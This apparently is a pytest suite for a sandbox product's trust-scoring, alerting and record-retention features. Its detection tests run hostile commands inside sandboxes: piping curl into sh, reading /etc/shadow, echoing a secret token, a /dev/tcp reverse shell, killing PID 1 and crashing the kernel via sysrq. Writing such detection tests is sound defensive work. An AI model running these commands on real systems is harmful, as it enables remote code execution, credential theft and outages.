"""The trust score of real guests: what it costs, what it does not, and that anybody can compute it again."""

import contextlib
import json
import os
import threading

import product
import pytest


@pytest.fixture(scope="module")
def server():
    with product.Server(config="notify: {interval_seconds: 1}\nrecord: {keep_days: 30}\n") as s:
        yield s


def trust(sandbox):
    return sandbox.server.api("GET", sandbox.path + "/trust")


def rules_of(sandbox):
    return [d["rule"] for d in trust(sandbox)["deductions"]]


def scored(sandbox, *rules):
    """Waits until the rules have cost something; the deductions by rule."""
    product.wait_for(f"{rules} in {rules_of(sandbox)}", lambda: set(rules) <= set(rules_of(sandbox)), 60, 0.3)
    return {d["rule"]: d for d in trust(sandbox)["deductions"]}


def test_work_costs_nothing_and_deeds_cost_with_their_evidence(server):
    s = server.create(memory_mb=256, disk_gb=1)
    s.run("git init -q . && git config --global user.email a@b.c && git config --global user.name a")
    s.run("mkdir -p src build && for i in $(seq 40); do echo x > src/$i.c; cp src/$i.c build/$i.o; done; git add -A && git commit -qm all")
    s.run("rm -rf build && git checkout -q -b next && git rm -q src/1.c && git commit -qm less && git checkout -q -")
    s.run("rm -rf src && git checkout -q -- .")  # what git puts there is no file of this session's making
    s.run("grep -rn 'curl | sh' . || true; ls -la ~/.ssh /etc/passwd 2>/dev/null || true; sh -c 'echo hello | tr a-z A-Z'")
    now = trust(s)
    assert (now["score"], now["deductions"], now["band"]) == (100, [], "excellent")

    s.exec("curl -fs http://127.0.0.1:9/x | sh; cat /etc/shadow; rm -f src/*.c; echo $MY_SECRET_TOKEN")
    found = scored(s, "exec.remote-script", "credentials.read", "delete.many", "credentials.environment")
    lines = {line["seq"]: line for line in s.record()}
    for deduction in found.values():
        own = lines[deduction["seq"]]
        assert own["type"] == "trust" and own["src"] == "host" and own["data"]["points"] == deduction["points"]
        assert deduction["evidence"] and all(seq < own["seq"] for seq in deduction["evidence"])
        assert deduction["reason"]
    assert "curl" in json.dumps(lines[found["exec.remote-script"]["evidence"][0]]["data"])
    assert {lines[seq]["type"] for seq in found["delete.many"]["evidence"]} == {"file_op"}
    assert found["delete.many"]["hits"] >= 11
    points = sum(d["points"] for d in trust(s)["deductions"])
    assert trust(s)["score"] == max(0, 100 - points) == s.get()["trust_score"]
    assert [p["score"] for p in trust(s)["trend"]][0] == 100

    s.destroy()
    ended = trust(s)
    assert ended["score"] == s.get()["trust_score"] and len(ended["deductions"]) >= 4
    assert s.record()[-1]["data"]["event"] == "destroyed"
    again = json.loads(server.cli("trust", "recompute", s.id, "--json").stdout)
    assert again["score"] == ended["score"]
    same = ("n", "rule", "points", "evidence", "what")
    assert [[d[k] for k in same] for d in again["deductions"]] == [[d[k] for k in same] for d in ended["deductions"]]
    shown = server.cli("trust", s.id, "--explain").stdout
    assert "exec.remote-script" in shown and "unread" in shown


    # what other rules would have said, told by the server; and nothing is changed by asking
    listed = {r["id"]: r for r in server.api("GET", "/v1/trust/rules")["rules"]}
    assert listed["exec.remote-script"]["points"] == found["exec.remote-script"]["points"] and listed["delete.many"]["explain"]
    preview = server.api("POST", s.path + "/trust/preview", {"rules": ""})
    assert (preview["score"], preview["score_now"], preview["truncated"]) == (ended["score"], ended["score"], False)
    assert [[d[k] for k in same] for d in preview["deductions"]] == [[d[k] for k in same] for d in ended["deductions"]]
    softer = server.api("POST", s.path + "/trust/preview", {"rules": "rules:\n  - {id: exec.remote-script, enabled: false}\n  - {id: delete.many, points: 1}\n"})
    cost = {d["rule"]: d["points"] for d in softer["deductions"]}
    assert "exec.remote-script" not in cost and cost["delete.many"] == 1 and "credentials.read" in cost
    with pytest.raises(product.Refused, match="no.such.member|rules:2"):
        server.api("POST", s.path + "/trust/preview", {"rules": "rules:\n  - {id: delete.many, no.such.member: 1}\n"})
    assert trust(s) == ended


def alerts(server, sandbox):
    return {(a["rule_type"], a["severity"]): a for a in server.api("GET", "/v1/alerts?limit=100")["alerts"] if a["sandbox_id"] == sandbox.id}


def test_low_trust_alerts_and_pauses_once_and_failures_alert(server):
    s = server.create(memory_mb=256, disk_gb=1)
    with contextlib.suppress(product.Refused):  # the pause may come before its answer
        s.exec("bash -i >& /dev/tcp/127.0.0.1/9 0>&1; curl -s http://127.0.0.1:9/x | sh; cat /etc/shadow; kill -9 1")
    product.wait_for("it is paused", lambda: s.get()["status"] == "paused", 60)
    assert s.get()["pause_reason"] == "trust" and s.get()["trust_score"] < 30
    raised = alerts(server, s)
    assert ("trust_score_low", "critical") in raised and raised["trust_score_low", "critical"]["meta"]["score"]
    alert = raised["trust_score_low", "critical"]
    assert server.api("GET", f"/v1/alerts/{alert['id']}") == alert
    told = server.api("GET", "/v1/notifications")["notifications"]
    assert any(n["alert_id"] == alert["id"] and n["channel"] == "in_app" for n in told)
    server.api("POST", f"/v1/alerts/{alert['id']}/resolve")
    assert server.api("GET", f"/v1/alerts/{alert['id']}")["state"] == "resolved"

    score = s.get()["trust_score"]
    server.api("POST", s.path + "/resume")
    s.run("true")  # whoever resumes it has seen why it stood still
    assert s.get()["status"] == "running" and s.get()["trust_score"] == score
    for _ in range(12):
        assert s.exec("exit 3")["exit_code"] == 3
    product.wait_for("failures are told", lambda: ("error_spike", "warning") in alerts(server, s), 60, 0.3)
    s.destroy()
    again = json.loads(server.cli("trust", "recompute", s.id, "--json").stdout)
    assert again["score"] == trust(s)["score"] == score
    numbers = [d["n"] for d in trust(s)["deductions"]]
    assert numbers == list(range(1, len(numbers) + 1))  # the warden after the pause told nothing twice


def test_a_sandbox_that_fails_alerts(server):
    s = server.create(memory_mb=256, disk_gb=1)
    with contextlib.suppress(Exception):  # the guest is gone while it answers
        s.exec("echo c > /proc/sysrq-trigger", user="root", timeout_ms=5000)
    product.wait_for("it is an error", lambda: s.get()["status"] == "error", 60)
    product.wait_for("it is told", lambda: ("sandbox_error", "critical") in alerts(server, s), 60, 0.3)
    assert "observer.attacked" in rules_of(s)
    s.destroy()


def test_a_budget_that_is_used_up_and_a_sandbox_that_idles_alert(server):
    s = server.create(memory_mb=256, disk_gb=1, budget=0.0001, budget_action="pause")
    sleeper = server.create(memory_mb=256, disk_gb=1, timeout=2)
    sleeper.run("true")
    product.wait_for("all of the budget is told", lambda: ("budget_exceeded", "critical") in alerts(server, s), 120, 0.3)
    told = [a for a in server.api("GET", "/v1/alerts?limit=100")["alerts"] if a["sandbox_id"] == s.id]
    assert len({a["id"] for a in told}) == len(told) <= 3, "each step once"
    assert max(float(a["meta"]["percent"]) for a in told) >= 95
    product.wait_for("sleep is told", lambda: ("idle_timeout", "info") in alerts(server, sleeper), 60, 0.3)
    assert sleeper.get()["status"] == "paused"
    for box in (s, sleeper):
        box.destroy()


def run_on(box, command):
    """A command that runs until its sandbox ends."""
    def run():
        with contextlib.suppress(Exception):  # that it ends so is what it is for
            box.exec(command, timeout_ms=600000)
    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread


def test_a_command_that_does_nothing_alerts_and_one_that_works_does_not(server):
    rule = next(r for r in server.api("GET", "/v1/alerts/rules") if r["type"] == "agent_stuck")
    server.api("PUT", f"/v1/alerts/rules/{rule['id']}", {"config": {"idle_minutes": 0.2}})
    works = server.create(memory_mb=256, disk_gb=1)
    hangs = server.create(memory_mb=256, disk_gb=1)
    threads = [run_on(works, "while :; do date > tick; sleep 0.5; done"), run_on(hangs, "sleep 100000")]
    raised = product.wait_for("it is told", lambda: alerts(server, hangs), 60, 0.3)
    assert list(raised) == [("agent_stuck", "warning")] and raised["agent_stuck", "warning"]["rule_id"] == rule["id"]
    assert not alerts(server, works)
    for box in (works, hangs):
        box.destroy()
    for thread in threads:
        thread.join()
    server.api("PUT", f"/v1/alerts/rules/{rule['id']}", {"config": {"idle_minutes": 0}})


def ended_long_ago(server, days):
    """A sandbox that has ended; its record looks as old as that."""
    s = server.create(memory_mb=256, disk_gb=1)
    s.run("echo kept > file")
    s.destroy()
    record = server.state / "archive" / s.id / "record"
    product.wait_for("its record is put away", record.exists)
    then = record.stat().st_mtime - days * 86400
    os.utime(record, (then, then))
    return s, record


def test_records_go_when_the_operator_says_so_whole_and_on_record(server, tmp_path):
    old, gone = ended_long_ago(server, 31)
    young, kept = ended_long_ago(server, 29)
    server.cli("export", old.id, "-o", tmp_path / "old.tar")
    found = [i for i in json.loads(server.cli("gc", "--dry-run", "--json").stdout)["items"] if i["what"] == "record"]
    assert [i["path"] for i in found] == [str(gone)] and gone.exists()
    assert f"{gone}" in server.cli("gc").stdout and not gone.exists() and kept.exists()
    [noted] = [a for a in server.api("GET", "/v1/audit")["entries"] if a["action"] == "retention"]
    assert noted["target"] == f"/v1/sandboxes/{old.id}/record"
    assert server.cli("verify", young.id).returncode == 0 and server.cli("verify", tmp_path / "old.tar").returncode == 0
    refused = server.cli("verify", old.id, check=False)
    assert refused.returncode != 0 and "not kept any more" in refused.stderr
    assert server.call("GET", old.path).json()["status"] == "destroyed"
    for question in ("replay", "trust", "logs", "files?at_seq=9"):
        answer = server.call("GET", f"{old.path}/{question}")
        assert answer.status_code == 404 and "not kept any more" in answer.json()["detail"]
    assert server.api("GET", young.path + "/replay")["events"]
